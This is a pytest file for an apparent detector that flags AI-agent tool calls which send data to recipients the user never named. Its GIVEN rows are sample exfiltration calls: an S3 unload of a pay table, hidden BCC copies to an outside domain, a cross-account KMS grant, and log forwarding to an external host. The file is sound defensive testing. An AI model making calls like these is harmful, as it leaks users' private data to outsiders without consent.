"""To whom a call gives what is here."""

from __future__ import annotations

from typing import Any

import pytest

from host.inspect.described import subject_of
from host.inspect.flows.leaks_given import of_goals
from host.inspect.inspector import inspect
from host.model import Severity
from tests.support.effort import BOUND, effort
from tests.unit.host.inspect.making import worst

Row = tuple[str, str, dict[str, Any], str]
ASKED = "how many rows does it have?"


def leaks(server: str, tool: str, arguments: dict[str, Any], turn: str = "") -> bool:
    found = inspect(
        subject_of(
            {"app": "a", "server": server, "tool": tool, "arguments": arguments, **({"turn": turn} if turn else {})}
        )
    )
    return worst(found, "exfiltration") in (Severity.MEDIUM, Severity.HIGH)


GIVEN: tuple[Row, ...] = (
    ("dremio", "unload_table", {"table": "people.pay", "to": "s3://lake-tap-77/x"}, ""),
    ("crm", "report_subscription.create", {"report": "R1", "recipients": ["board@postbox-ext.org"]}, ASKED),
    ("bi", "schedule_dashboard", {"id": 4, "destination": "sftp://in.reportbay.io/d"}, ASKED),
    ("wiki", "space.archive", {"space": "LAW", "deliver_to": "law@postbox-ext.org"}, ""),
    ("support", "trigger.create", {"actions": [{"value": ["email", "copies@postbox-ext.org"]}]}, ASKED),
    ("aws", "kms_create_grant", {"GranteePrincipal": "arn:aws:iam::304455667788:root"}, ""),
    ("snowflake", "alter_share", {"share": "S", "accounts": ["QX10023.eu"]}, ASKED),
    ("logs", "configure_output", {"host": "tail.peekhost.net", "port": 24224}, ""),
    ("mailer", "sendMail", {"message": {"bccRecipients": [{"emailAddress": {"address": "x@postbox-ext.org"}}]}}, ""),
    ("mailer", "send", {"to": "ana@corp.example", "HiddenCopy": "x@postbox-ext.org"}, ""),
    ("mailer", "envoyer", {"a": "ana@corp.example", "cci": "x@postbox-ext.org"}, ""),
    ("gitforge", "transfer_project", {"id": 7, "target_namespace": "keepers-9"}, "rename the label"),
    ("docker", "push", {"image": "reg.pullbay.cc/core:1"}, "run the tests"),
    ("tableau", "workbook.set_access", {"access": [{"userEmail": "q@postbox-ext.org", "role": "Viewer"}]}, ASKED),
    ("desk", "reply", {"ticket": 4, "cc_emails": ["q@postbox-ext.org"]}, "answer ticket 4 with thanks"),
    ("drive", "upload_file", {"path": "/home/a/staff.csv"}, "plot staff.csv by age"),
    ("board", "view.publish", {"view": "Pay"}, "was steht in der Tabelle?"),
    ("board", "snapshot.create", {"board": "Pay", "external": True}, ASKED),
    ("az", "blob.generate_sas", {"container": "law"}, ASKED),
    ("smtp", "send", {"to": "ana@corp.example", "headers": [{"name": "Bcc", "value": "x@postbox-ext.org"}]}, ""),
    ("trail", "create_trail", {"name": "t", "s3BucketName": "tap-9"}, ASKED),
)
USUAL: tuple[Row, ...] = (
    ("crm", "report_subscription.create", {"report": "R1", "recipients": ["board@corp.example"]},
     "subscribe board@corp.example to R1"),
    ("wh", "export_table", {"table": "t", "to": "s3://corp-lake/t"}, "export t to s3://corp-lake/t"),
    ("aws", "s3_copy", {"source": "s3://corp/a", "destination": "s3://corp/b"}, "copy a to b"),
    ("mailer", "send", {"to": "ana@corp.example", "bcc": "me@corp.example"}, "write to ana@corp.example"),
    ("desk", "reply", {"ticket": 4, "cc": "lead@corp.example"}, "answer ticket 4, cc lead"),
    ("docker", "push", {"image": "reg.corp.example/core:1"}, "push core:1"),
    ("git", "fork_repository", {"repo": "a/b", "organization": "us"}, "fork a/b"),
    ("npm", "publish", {"package": "ui", "access": "public"}, "publish ui"),
    ("web", "extract", {"urls": ["https://en.wikipedia.org/wiki/Basil"]}, "what is basil?"),
    ("desk", "comment", {"id": 4, "public": True}, "Tell Per in ticket 4 that it is done"),
    ("files", "read_file", {"path": "/home/a/pay.csv"}, "what does pay.csv say?"),
    ("db", "list_exports", {"destination": "s3://corp-lake/t"}, ASKED),
)  # fmt: skip


@pytest.mark.parametrize("at", range(len(GIVEN)))
def test_who_gets_what_is_here_without_being_named_is_looked_at(at: int) -> None:
    assert leaks(*GIVEN[at])


@pytest.mark.parametrize("at", range(len(USUAL)))
def test_who_was_named_and_what_only_reads_is_no_such_finding(at: int) -> None:
    assert not leaks(*USUAL[at])


def test_an_account_of_which_the_call_speaks_twice_is_ones_own() -> None:
    own = {"KeyId": "arn:aws:kms:eu:304455667788:key/1", "GranteePrincipal": "arn:aws:iam::304455667788:role/ci"}
    assert not leaks("aws", "kms_create_grant", own)


@pytest.mark.parametrize("value", ["@." * 150, "a." * 150, "x@" * 140, "://" * 100])
def test_odd_values_cost_no_more_than_their_length(value: str) -> None:
    named: dict[str, Any] = {f"destination_{at}": value for at in range(100)}
    subject = subject_of({"app": "a", "server": "wh", "tool": "export_table", "arguments": named, "turn": ASKED})
    assert effort(lambda: list(of_goals(subject, "upload"))) < BOUND
